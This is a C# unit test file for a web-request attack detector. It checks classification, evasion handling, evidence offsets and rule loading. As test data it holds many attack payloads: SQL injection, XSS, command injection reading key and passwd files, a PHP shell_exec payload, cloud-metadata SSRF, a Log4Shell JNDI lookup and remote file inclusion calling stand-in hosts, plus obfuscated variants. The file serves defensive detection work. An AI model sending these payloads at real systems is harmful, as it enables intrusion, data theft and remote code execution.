using System.Text;
using Palisade.Engine.Detect.Web;
using Palisade.Protocol;

namespace Palisade.Engine.Tests.Detect.Web;

public sealed class WebDetectorTests
{
    [Theory]
    [InlineData("sqli", "/item?id=7%27%20or%20%274%27%3D%274")]
    [InlineData("sqli", "/item?id=-1+union+all+select+1,2,group_concat(name)+from+staff--+")]
    [InlineData("sqli", "/item?id=3)%20and%20sleep(4)%23")]
    [InlineData("nosqli", "/login?user[$ne]=x")]
    [InlineData("xss", "/search?q=%3Cscript%3Ealert(7)%3C/script%3E")]
    [InlineData("xss", "/search?q=%22%20onfocus%3Dconfirm(1)%20autofocus%3D%22")]
    [InlineData("path_traversal", "/static/../../../../opt/app/secret.txt")]
    [InlineData("lfi", "/view?page=/etc/shadow")]
    [InlineData("rfi", "/index.php?page=http://192.0.2.9/kit.txt?")]
    [InlineData("cmdi", "/ping?host=192.0.2.1%3B%20cat%20/srv/keys.txt")]
    [InlineData("cmdi", "/ping?host=%60whoami%60")]
    [InlineData("rce", "/run?x=%3C%3Fphp%20echo%20shell_exec(%24_GET%5B1%5D)%3B%3F%3E")]
    [InlineData("ssti", "/hello?name=%7B%7B19*23%7D%7D")]
    [InlineData("ssrf", "/fetch?url=http://169.254.169.254/latest/meta-data/")]
    [InlineData("xxe", "/xml?doc=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20e%20SYSTEM%20%22http://example.com/e%22%3E%5D%3E")]
    [InlineData("ldapi", "/who?name=*)(objectClass=*)")]
    [InlineData("crlf", "/go?to=/home%0d%0aSet-Cookie:%20role=admin")]
    [InlineData("open_redirect", "/go?to=///example.com/")]
    [InlineData("deserialization", "/state?v=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC")]
    [InlineData("log4shell", "/?x=$%7Bjndi:ldap://198.51.100.7/a%7D")]
    [InlineData("webshell", "/uploads/c99.php"), InlineData("webshell", "/wp-content/uploads/2026/11/x.php")]
    [InlineData("probe", "/.git/HEAD")]
    [InlineData("other", "/?a[__proto__][admin]=1")]
    public void Each_class_is_found(string attackClass, string target) => Assert.Equal(attackClass, WebSamples.ClassOf(target));

    [Fact]
    public void A_tool_is_known_by_its_agent() => Assert.Equal("scanner", WebSamples.ClassOf("/", "sqlmap/1.8 (https://example.com)"));

    [Theory]
    [InlineData("/")]
    [InlineData("/api/v2/orders/18823?fields=id,total&sort=-created")]
    [InlineData("/search?q=men%27s%20watch%20%26%20women%27s%20ring")]
    [InlineData("/search?q=what%27s%20the%20best%2027%22%20screen%3F")]
    [InlineData("/search?q=select%20the%20rows%20you%20want%20and%20drop%20the%20rest")]
    [InlineData("/search?q=union%20square%20or%20broadway")]
    [InlineData("/search?q=%E6%98%A5%E5%AD%A3%E6%96%B0%E6%AC%BE")]
    [InlineData("/search?q=%D5%AE%C8%A8%D7%AA%C8%C3")]
    [InlineData("/collect?ev=%7B%22e%22%3A%22click%22%2C%22pos%22%3A%5B12%2C44%5D%7D&dl=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D1")]
    [InlineData("/login?next=https%3A%2F%2Fwww.example.com%2Faccount%3Ftab%3D2")]
    [InlineData("/mobile/api.php?mod=user&act=info&ver=3.2.1")]
    [InlineData("/preview?html=%3Cp%3Ehello%20%3Cb%3Ethere%3C%2Fb%3E%3C%2Fp%3E")]
    [InlineData("/graphql?query=query%20A(%24n%3AInt!)%7Borders(first%3A%24n)%7Bid%7D%7D")]
    [InlineData("/files/?C=M;O=D")]
    [InlineData("/.well-known/security.txt")]
    public void Ordinary_requests_stay_quiet(string target) => Assert.Null(WebSamples.ClassOf(target));

    [Theory]
    [InlineData("/a?f=..%252f..%252f..%252fkeys", "path_traversal")]
    [InlineData("/a?f=%c0%ae%c0%ae/%c0%ae%c0%ae/keys", "path_traversal")]
    [InlineData("/a?f=..%5c..%5cwindows%5cwin.ini", "lfi")]
    [InlineData("/a?q=%3CsCrIpT%3Econfirm(1)%3C/ScRiPt%3E", "xss")]
    [InlineData("/a?q=%26lt;script%26gt;confirm(1)", "xss")]
    [InlineData("/a?q=%u003cscript%u003econfirm(1)", "xss")]
    [InlineData("/a?q=\\x3Cscript\\x3Econfirm(1)", "xss")]
    [InlineData("/a?id=1/**/UnIoN/**/SeLeCt/**/1,2", "sqli")]
    [InlineData("/a?id=1%27%09oR%0b%272%27%3d%272", "sqli")]
    [InlineData("/a?h=;c%27%27at%20/etc/pass%22%22wd", null)]
    [InlineData("/a?h=;cat$IFS/etc/passwd", null)]
    [InlineData("/a?q=JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0=", "log4shell")]
    public void Disguise_does_not_help(string target, string? attackClass)
    {
        var said = WebSamples.ClassOf(target);
        Assert.NotNull(said);
        if (attackClass is not null && said != attackClass) Assert.Contains(said, new[] { "lfi", "path_traversal" });
    }

    [Theory]
    [InlineData("403", AttackOutcome.Blocked)]
    [InlineData("429", AttackOutcome.Blocked)]
    [InlineData("404", AttackOutcome.Failed)]
    [InlineData("200", AttackOutcome.Unknown)]
    [InlineData("500", AttackOutcome.Unknown)]
    [InlineData("", AttackOutcome.Unknown)]
    public void Outcome_comes_from_the_status_and_is_never_success(string status, AttackOutcome outcome) =>
        Assert.Equal(outcome, WebSamples.Judge("/.git/HEAD", status: status)!.Value.Outcome);

    [Fact]
    public void Evidence_is_the_value_as_it_came()
    {
        const string target = "/item?a=1&id=7%27%20or%20%274%27%3D%274&b=2";
        var verdict = WebSamples.Judge(target)!.Value;
        Assert.Equal("7%27%20or%20%274%27%3D%274", target.Substring(verdict.Offset, verdict.Length));
    }

    [Fact]
    public void Findings_of_a_batch_point_into_their_fields()
    {
        var events = new EventBatch();
        events.Begin(new RecordInfo(1, 0, 1, 0, -1), "x"u8);
        events.Add(Fields.UrlPath, "/item"u8);
        events.Add(Fields.UrlQuery, "id=1%20union%20select%202,3"u8);
        events.Begin(new RecordInfo(2, 0, 1, 0, -1), "y"u8);
        var findings = new FindingList();
        WebSamples.Detector.Detect(events, findings);
        var finding = Assert.Single(findings.Items.ToArray());
        Assert.Equal("web.sqli", finding.Rule.Id);
        Assert.Equal(Fields.UrlQuery, finding.Field);
        Assert.Equal("1%20union%20select%202,3", Encoding.UTF8.GetString(events.Get(0, finding.Field).Slice(finding.Offset, finding.Length)));
    }

    [Fact]
    public void Requests_to_the_interface_of_a_cluster_are_no_requests_of_visitors()
    {
        var events = new EventBatch();
        foreach (var dataset in new[] { "kubernetes.audit", "nginx.access" })
        {
            events.Begin(new RecordInfo(1, 0, 1, 0, -1), "x"u8);
            events.Add(Fields.EventDataset, Encoding.UTF8.GetBytes(dataset));
            events.Add(Fields.UrlPath, "/api/v1/namespaces/kube-system/secrets"u8);
        }
        var findings = new FindingList();
        WebSamples.Detector.Detect(events, findings);
        Assert.DoesNotContain(findings.Items.ToArray(), f => f.Event == 0);
        Assert.Contains(findings.Items.ToArray(), f => f.Event == 1);
    }

    [Fact]
    public void Every_class_is_told_in_both_languages() => Assert.All(WebSamples.Detector.Rules, rule =>
    {
        Assert.StartsWith("web.", rule.Id, StringComparison.Ordinal);
        Assert.NotEmpty(rule.Techniques);
        Assert.All(new[] { rule.Name, rule.NameZh, rule.WhatHappened, rule.WhatHappenedZh, rule.WhatToDo, rule.WhatToDoZh }, text => Assert.NotEmpty(text));
    });

    [Fact]
    public void Bad_signatures_are_said_with_code_and_line_and_left_out()
    {
        var yaml = "classes:\n  - {class: sqli, level: medium}\nsignatures:\n  - {id: a, class: nope, any: [x]}\n  - {id: b, class: sqli, any: [x], match: '('}\n  - {id: c, class: sqli, any: [ok]}\n";
        var detector = WebDetector.Load([("w.yml", Encoding.UTF8.GetBytes(yaml))], out var diagnostics);
        Assert.Equal(["WEB011", "WEB014"], diagnostics.Select(d => d.Code));
        Assert.Equal([4, 5], diagnostics.Select(d => d.Line));
        Assert.Equal(1, detector.SignatureCount);
    }
}
